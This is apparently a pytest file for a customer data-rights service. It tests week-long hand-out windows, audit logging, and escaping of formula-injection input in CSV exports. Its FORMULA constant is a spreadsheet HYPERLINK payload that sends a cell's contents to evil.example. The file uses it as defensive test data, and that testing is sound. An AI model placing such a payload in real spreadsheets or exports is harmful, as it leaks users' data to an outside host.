# SPDX-License-Identifier: Apache-2.0
"""Data is handed out for a week, each time on record, and computes nothing."""

import csv
import io
import json
from datetime import timedelta

import pytest
from flask import Flask
from freezegun import freeze_time
from make import make_token
from rights_office import CUSTOMER, NOTES, SERIAL, VERIFIED, WHY, Office, opened
from werkzeug.test import TestResponse

from fleet.staff.audit import AuditFacts, Wanted, entries
from fleet.staff.roles import Role
from retention.service.fulfilling import HANDED_OUT_FOR

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def office(proxied_app: Flask) -> Office:
    return opened(proxied_app)


def code(answer: TestResponse) -> tuple[int, str]:
    return answer.status_code, answer.get_json()["type"].removeprefix("/problems/")


def hand_outs() -> list[AuditFacts]:
    """Return what the audit log says of data handed out, the first first."""
    found = entries(Wanted(action="device.hand-out"), limit=100).items
    return list(reversed(found))


@pytest.mark.parametrize("kind", ["access", "portability"])
def test_a_repeat_hands_out_for_a_week_and_then_nothing(
    office: Office, kind: str
) -> None:
    number = office.take(kind)
    ways = (
        ("POST", f"requests/{number}/fulfilment", {}),
        ("GET", f"requests/{number}/data", None),
    )
    assert office.send(*ways[0]).status_code == 200
    done_at = office.at
    office.at = done_at + HANDED_OUT_FOR - timedelta(microseconds=1)
    for way in ways:
        assert office.send(*way, by=office.support).status_code == 200
    before = len(hand_outs())
    assert before == 3

    for later in (HANDED_OUT_FOR, timedelta(days=400)):
        office.at = done_at + later
        with freeze_time(office.at):
            fresh = make_token(Role.SUPPORT, "Eve")
        for way in ways:
            refused = office.send(*way, by=fresh)
            assert code(refused) == (409, "rights-request-closed")
            assert CUSTOMER not in refused.text
    assert len(hand_outs()) == before


def test_each_time_is_on_record_with_who_and_without_words_of_anybody(
    office: Office,
) -> None:
    number = office.fulfil("access")["request"]["id"]
    office.send("POST", f"requests/{number}/fulfilment", {}, by=office.support)
    office.send("GET", f"requests/{number}/data", by=office.support)
    office.send("GET", f"requests/{number}/data?format=csv")

    found = hand_outs()
    assert [each.actor for each in found] == [
        "Olga Operator",
        "Anna Agent",
        "Anna Agent",
        "Olga Operator",
    ]
    again = {"kind": "access", "again": True}
    assert [each.after for each in found] == [{"kind": "access"}, again, again, again]
    assert {each.subject for each in found} == {f"device:{SERIAL}"}
    assert {each.reason for each in found} == {f"rights request {number}"}
    for words in (CUSTOMER, NOTES, WHY, VERIFIED):
        assert words not in str(found)


def test_what_hands_nothing_out_is_still_answered_the_same_a_year_later(
    office: Office,
) -> None:
    number = office.fulfil("objection")["request"]["id"]
    office.at += timedelta(days=300)
    with freeze_time(office.at):
        office.operator = make_token(Role.OPERATOR, "Olga Operator")
    again = office.send("POST", f"requests/{number}/fulfilment", {})
    assert again.status_code == 200
    assert again.json["data"] is None
    assert hand_outs() == []


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(1)", "\t=1"])
def test_a_csv_computes_nothing_and_json_is_exact(office: Office, text: str) -> None:
    with freeze_time(office.at):
        answer = office.app.test_client().patch(
            f"/cic/v1/devices/{SERIAL}",
            json={"notes": text},
            headers=office.support,
        )
        assert answer.status_code == 200, answer.json
    stored = [
        record["fields"]["notes"]
        for each in office.own("GET", "device/data?format=json").json["categories"]
        for record in each["records"]
        if "notes" in record["fields"]
    ]
    number = office.fulfil("portability")["request"]["id"]
    tables = (
        office.own("GET", "device/data?format=csv").text,
        office.send("GET", f"requests/{number}/data?format=csv").text,
    )
    assert stored
    assert set(stored) <= {text, text.strip()}
    for table in tables:
        rows = list(csv.DictReader(io.StringIO(table)))
        found = {row["value"] for row in rows if row["field"] == "notes"}
        assert found == {
            f"'{each}" if each[0] in "=+-@\t\r" else each for each in stored
        }


def test_no_cell_of_text_is_a_formula_and_numbers_stay_numbers(office: Office) -> None:
    with freeze_time(office.at):
        assert office.pbx.check(software_version=FORMULA).status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(office.own("GET", "device/data?format=csv").text))
    )
    versions = {r["value"] for r in rows if r["field"] == "software_version"}
    assert f"'{FORMULA}" in versions
    for row in rows:
        value = row["value"]
        if value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert isinstance(json.loads(value), int)
